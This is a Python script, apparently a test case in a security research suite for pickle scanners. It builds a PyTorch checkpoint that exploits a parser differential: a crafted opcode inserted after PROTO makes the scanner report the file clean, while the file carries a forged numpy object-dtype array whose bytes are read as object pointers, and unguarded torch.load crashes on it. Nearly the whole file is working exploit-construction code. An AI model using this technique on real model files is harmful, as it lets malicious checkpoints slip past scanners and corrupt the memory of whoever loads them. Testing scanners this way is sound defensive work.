"""s12: s1 inside a torch zip checkpoint: `data.pkl` of `torch.save({"w": RC-3 array})` (an
array whose dtype is a forged object dtype, its 16 data bytes read as PyObject pointers) with
`I1\\0\\n0` placed after PROTO. torch.load's unpickler (`_pickle`, and pickleguard's under the
preload) reads `I1\\0` as 1; the scanner's value pass stops there: scan CLEAN, guarded
torch.load refuses (numpy-dtype-state), unguarded torch.load(weights_only=False) crashes.
"""
import io
import sys
import zipfile

import numpy as np
import torch

from _common import after_proto, ra

LOADER = "torch.load(path, weights_only=False)"
FILENAME = "model.pt"
USE = "print(obj['w'])"


def build(path):
    _, multiarray, _ = ra.numpy_names()
    state = (1, (2,), ra.forged_object_dtype(), False, b"AAAAAAAABBBBBBBB")
    obj = ra.Reduce(multiarray._reconstruct, (np.ndarray, (0,), b"b"), state)
    buf = io.BytesIO()
    torch.save({"w": obj}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data.pkl"):
                data = after_proto(data, b"I1\x00\n0")
            dst.writestr(info, data)
    with open(path, "wb") as f:
        f.write(out.getvalue())


if __name__ == "__main__" and sys.argv[1] == "build":
    build(sys.argv[2])
